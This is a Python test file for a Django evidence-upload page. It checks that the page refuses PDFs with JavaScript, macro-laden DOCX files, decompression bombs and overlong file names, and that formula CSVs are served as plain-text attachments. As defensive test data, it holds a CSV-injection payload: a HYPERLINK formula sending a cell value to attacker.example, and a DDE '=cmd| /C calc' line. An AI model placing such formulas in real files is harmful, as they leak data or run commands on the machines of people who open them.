"""Hostile evidence through the upload page: each refusal is a form error in the GOV.UK error summary saying what
to fix, a file name too long for the request parser is one too (not a bare 400), and a CSV of formulas goes out as
a plain-text attachment."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from checklists.models import Evidence
from checklists.services.evidence import evidence_add_file
from tests.evidence_support import docx, docx_inflating_to_512_mb, pdf

pytestmark = pytest.mark.django_db

PDF = pdf(b"<< /Type /Catalog >>")


def _add_url(world) -> str:
    return reverse("checklists:evidence_add", args=[world.assessment_a.pk, "EMP-01"])


def _post(client, world, file):
    return client.post(_add_url(world), {"upload-file": file, "upload-title": ""})


def _named(content: bytes, name: str) -> io.BytesIO:
    """A file as the browser sends it, under a name of any length (SimpleUploadedFile cuts names to 255)."""
    file = io.BytesIO(content)
    file.name = name
    return file


def assert_refused(page, *phrases: str) -> None:
    html = page.content.decode()
    assert page.status_code == 200
    assert "govuk-error-summary" in html
    summary = html[html.index("govuk-error-summary") :]
    for phrase in phrases:
        assert phrase in summary, phrase
    assert not Evidence.objects.exists()


@pytest.mark.parametrize(
    ("content", "name", "phrases"),
    [
        (
            pdf(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
            "minutes.pdf",
            ("contains JavaScript", "Print it to a new PDF"),
        ),
        (docx(**{"word/vbaProject.bin": b"macro project"}), "minutes.docx", ("contains macros", "without macros")),
    ],
    ids=["pdf-javascript", "docx-macros"],
)
def test_active_content_is_refused_with_what_to_do(client, world, content, name, phrases):
    client.force_login(world.manager_a)
    assert_refused(_post(client, world, SimpleUploadedFile(name, content)), *phrases)


def test_a_docx_that_unpacks_to_512_mb_is_refused(client, world):
    client.force_login(world.manager_a)
    page = _post(client, world, SimpleUploadedFile("budget.docx", docx_inflating_to_512_mb()))
    assert_refused(page, "unpacks to more than 100.0", "save it as a new file")


@pytest.mark.parametrize("length", [300, 1000])
def test_a_very_long_file_name_is_a_form_error_that_says_to_rename_it(world, length):
    client = Client(enforce_csrf_checks=True)  # as a browser: the token is in the body that cannot be parsed
    client.force_login(world.manager_a)
    item = client.get(reverse("checklists:item", args=[world.assessment_a.pk, "EMP-01"]))
    token = item.cookies["csrftoken"].value
    name = "m" * (length - 4) + ".pdf"
    page = client.post(_add_url(world), {"upload-file": _named(PDF, name), "csrfmiddlewaretoken": token})
    assert_refused(page, "name is too long", "Rename the file")


def test_a_long_but_keepable_name_is_accepted(client, world):
    client.force_login(world.manager_a)
    page = _post(client, world, _named(PDF, "m" * 251 + ".pdf"))
    assert page.status_code == 302
    assert Evidence.objects.get().original_filename.endswith(".pdf")


def test_a_csv_of_formulas_is_downloaded_as_plain_text_never_inline(client, world):
    formulas = b'=HYPERLINK("http://attacker.example/?"&A2,"Click"),=1+1\n=cmd|\' /C calc\'!A0,@SUM(1)\n'
    response = world.assessment_a.responses.get(item__code="EMP-01")
    evidence = evidence_add_file(
        response=response, user=world.manager_a, uploaded_file=SimpleUploadedFile("budget.csv", formulas)
    )
    assert evidence.content_type == "text/csv"
    client.force_login(world.rep_a)
    download = client.get(reverse("checklists:evidence_download", kwargs={"pk": evidence.pk}))
    assert download.status_code == 200
    assert download["Content-Type"] == "text/plain; charset=utf-8"
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == formulas  # the evidence itself is never altered
